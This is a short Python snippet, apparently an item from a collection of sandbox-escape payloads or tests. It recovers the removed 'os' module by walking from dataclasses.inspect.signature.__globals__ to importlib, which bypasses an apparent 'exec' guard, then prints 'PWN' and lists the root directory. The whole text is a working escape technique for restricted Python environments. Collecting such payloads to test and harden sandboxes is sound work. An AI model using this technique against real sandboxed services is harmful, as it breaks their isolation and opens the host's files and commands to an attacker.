# a frozen module (os, gone from sys.modules) loaded again through importlib.import_module
# guard: exec
import dataclasses
os = dataclasses.inspect.signature.__globals__['importlib'].import_module('os')
print('PWN', os.listdir('/'))
